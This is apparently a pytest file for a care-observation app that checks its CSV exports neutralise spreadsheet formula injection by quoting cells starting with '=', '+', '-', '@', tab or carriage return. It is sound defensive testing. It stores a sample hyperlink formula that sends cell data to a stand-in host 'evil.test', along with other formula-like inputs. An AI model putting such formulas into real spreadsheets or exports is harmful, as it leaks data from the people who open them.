"""Every CSV careobs writes neutralises text a spreadsheet would run as a formula.

Text typed into careobs (a staff name, a QUIS note, a visit comment, an action) that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return reaches the downloaded cell after a single
quote (OWASP's advice), so Excel or LibreOffice shows it instead of running it. Numbers written
from numeric values, negative ones included, stay plain numbers. The data is stored through the
app's own forms and sync API, then read back from each CSV route, the export ZIP and the CLI.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest

from careobs.checklists import service as checklists
from careobs.csv_cells import spreadsheet_safe
from careobs.dashboards.tables import Column, Table
from careobs.export.writers import RowWriter
from careobs.org.models import StaffMember
from tests.factories import OrgData
from tests.support.export import post_form_as, sync_as_user
from tests.support.quis import quis_doc
from tests.support.sync import iso
from tests.support.visits import PLANNED, action, checklist_info, spot_check
from tests.support.web import Auth

LINK = '=HYPERLINK("http://evil.test/?d="&A1,"Open")'
DANGEROUS = [LINK, "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Hostile:
    acme: OrgData
    worker: StaffMember  # a homecare worker named LINK
    quis: dict
    visit: dict


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def dangerous_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a number."""
    found = []
    for row in rows:
        for cell in row:
            if cell.startswith(STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def hostile(app, db, data) -> Hostile:
    acme = data.organisation()
    acme.people["H01"].consent = "yes"
    db.commit()
    with app.app_context():
        checklist_uuid = checklists.create_default(db, acme.org.id, actor=acme.admin).uuid
        db.commit()

    admin = app.test_client()
    Auth(admin).login(acme.admin)
    staff_form = {
        "service": acme.homecare.uuid.hex,
        "name": LINK,
        "job_role": "+1",
        "start_date": "2025-01-06",
        "user": "",
    }
    assert admin.post("/admin/staff/new", data=staff_form).status_code == 302
    user_form = {
        "email": acme.supervisor.email,
        "display_name": "@SUM(1)",
        f"role_{acme.care_home.uuid.hex}": "supervisor",
        f"role_{acme.homecare.uuid.hex}": "supervisor",
    }
    response = admin.post(f"/admin/users/{acme.supervisor.uuid}", data=user_form)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    db.expire_all()
    worker = db.query(StaffMember).filter_by(name=LINK).one()

    quis = quis_doc(
        acme.care_home,
        status="submitted",
        notes="+1",
        went_well="-2+3",
        to_develop="\tx",
    )
    visit = spot_check(
        acme.homecare,
        worker,
        checklist_info(db, checklist_uuid),
        arrived_at=iso(PLANNED - timedelta(minutes=2, seconds=30)),  # early: -2.5 minutes late
        person_view={"satisfaction": 4, "comment": "@SUM(1)"},
        went_well="\rx",
        to_develop="-2+3",
        actions=[action(worker, description=LINK)],
    )
    sync_as_user(app, acme.supervisor, quis, visit)
    addendum = {"reason": "-2+3", "text": "=1+1"}
    post_form_as(app, acme.supervisor, f"/quis/sessions/{quis['id']}", addendum)
    team = {
        "staff": [acme.staff_members["Carla Carer"].uuid.hex],
        "went_well": "@SUM(1)",
        "to_develop": "",
        "send": "1",
    }
    post_form_as(app, acme.supervisor, f"/feedback/team/{quis['id']}", team)
    db.expire_all()
    return Hostile(acme, worker, quis, visit)


def assert_export_is_neutralised(files: dict[str, list[list[str]]], hostile: Hostile) -> None:
    for name, rows in files.items():
        assert dangerous_cells(rows) == [], name

    [staff] = [r for r in files["staff"][1:] if r[0] == str(hostile.worker.uuid)]
    assert staff[files["staff"][0].index("name")] == f"'{LINK}"
    assert staff[files["staff"][0].index("job_role")] == "'+1"
    assert "'@SUM(1)" in column(files["users"], "display_name")

    [quis] = files["quis_sessions"][1:]
    header = files["quis_sessions"][0]
    assert quis[header.index("notes")] == "'+1"
    assert quis[header.index("went_well")] == "'-2+3"
    assert quis[header.index("to_develop")] == "'\tx"
    assert column(files["quis_addenda"], "text") == ["'=1+1"]
    assert column(files["quis_addenda"], "reason") == ["'-2+3"]

    [visit] = files["visits"][1:]
    header = files["visits"][0]
    assert visit[header.index("person_comment")] == "'@SUM(1)"
    assert visit[header.index("went_well")] == "'\rx"
    assert visit[header.index("to_develop")] == "'-2+3"
    # Numbers stay numbers, a negative one (arrived early) included.
    assert visit[header.index("minutes_late")] == "-2.5"
    assert float(visit[header.index("score")]) == 100
    assert visit[header.index("satisfaction")] == "4"
    assert column(files["visit_actions"], "description") == [f"'{LINK}"]
    assert f"'{LINK}" in column(files["actions"], "description")
    assert "'@SUM(1)" in column(files["feedback"], "went_well")


def test_the_export_zip_neutralises_formulas_and_keeps_numbers(client, auth, hostile):
    auth.login(hostile.acme.admin)
    response = client.post("/admin/export", data={"format": "csv"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        files = {
            Path(name).stem: cells_of(archive.read(name).decode("utf-8"))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    response.close()
    assert_export_is_neutralised(files, hostile)


def test_the_cli_export_neutralises_formulas_and_keeps_numbers(runner, hostile, tmp_path):
    out = tmp_path / "export"
    result = runner.invoke(args=["export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    files = {}
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as f:  # keep a "\r" inside a cell
            files[path.stem] = list(csv.reader(f))
    assert_export_is_neutralised(files, hostile)


def test_the_json_export_keeps_text_exactly_as_typed(client, auth, hostile):
    auth.login(hostile.acme.admin)
    response = client.post("/admin/export", data={"format": "json"})
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        staff = archive.read("staff.jsonl").decode("utf-8")
    response.close()
    assert '"name": "=HYPERLINK(' in staff  # JSON is data for programs, not a spreadsheet


def test_the_coverage_dashboard_csv_neutralises_a_workers_name(login_as, hostile):
    client = login_as(hostile.acme.admin)
    page = client.get("/dashboards/coverage").get_data(as_text=True)
    assert "=HYPERLINK(" in page  # the page shows the name as typed
    response = client.get("/dashboards/coverage.csv", query_string={"table": "workers"})
    assert response.status_code == 200
    rows = cells_of(response.get_data(as_text=True))
    assert dangerous_cells(rows) == []
    names = column(rows, "Care worker")
    assert f"'{LINK}" in names and "Hal Homecare" in names
    [evil] = [row for row in rows[1:] if row[0] == f"'{LINK}"]
    assert evil[rows[0].index("Last visit")] == "2026-11-20"


def test_every_dashboard_csv_is_free_of_formulas(login_as, hostile):
    client = login_as(hostile.acme.admin)
    for name in ("quis", "visits", "coverage"):
        payload = client.get(f"/api/v1/dashboards/{name}").get_json()
        for table in payload["tables"]:
            response = client.get(f"/dashboards/{name}.csv", query_string={"table": table["key"]})
            assert response.status_code == 200, (name, table["key"])
            assert dangerous_cells(cells_of(response.get_data(as_text=True))) == [], table["key"]


def test_the_worker_page_csvs_neutralise_text_and_keep_scores(login_as, hostile):
    client = login_as(hostile.acme.admin)
    carla = hostile.acme.staff_members["Carla Carer"]
    feedback = client.get(
        f"/dashboards/workers/{carla.uuid}.csv", query_string={"table": "feedback"}
    )
    rows = cells_of(feedback.get_data(as_text=True))
    assert column(rows, "Written by") == ["'@SUM(1)"]
    assert dangerous_cells(rows) == []

    scores = client.get(
        f"/dashboards/workers/{hostile.worker.uuid}.csv", query_string={"table": "scores"}
    )
    rows = cells_of(scores.get_data(as_text=True))
    assert column(rows, "Score (%)") == ["100.0"]


# -- the one guard, for values the forms would not let through (a leading tab in a name) --------


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert spreadsheet_safe(text) == f"'{text}"


@pytest.mark.parametrize("value", ["R01", "", " =1", "1-2", "'=1", 3, -3, -0.5, None, True])
def test_anything_else_is_left_alone(value):
    assert spreadsheet_safe(value) is value


def test_a_row_writer_guards_text_but_not_numbers():
    stream = io.BytesIO()
    writer = RowWriter(stream, "csv", ["note", "count", "change", "code"])
    writer.write(["\tx", -3, -0.5, "-3"])
    writer.write(["\rx", 0, 1.5, "R01"])
    writer.close()
    rows = cells_of(stream.getvalue().decode("utf-8"))
    assert rows[1:] == [["'\tx", "-3", "-0.5", "'-3"], ["'\rx", "0", "1.5", "R01"]]


def test_a_dashboard_table_guards_text_but_not_numbers():
    table = Table(
        "t",
        "T",
        [Column("who", "Who"), Column("n", "n", "int"), Column("change", "Change", "num")],
        [["+1", -3, -0.5], ["\tx", 2, 0.25], ["Ann", None, None]],
    )
    rows = cells_of(table.as_csv())
    assert rows == [
        ["Who", "n", "Change"],
        ["'+1", "-3", "-0.5"],
        ["'\tx", "2", "0.2"],
        ["Ann", "", ""],
    ]
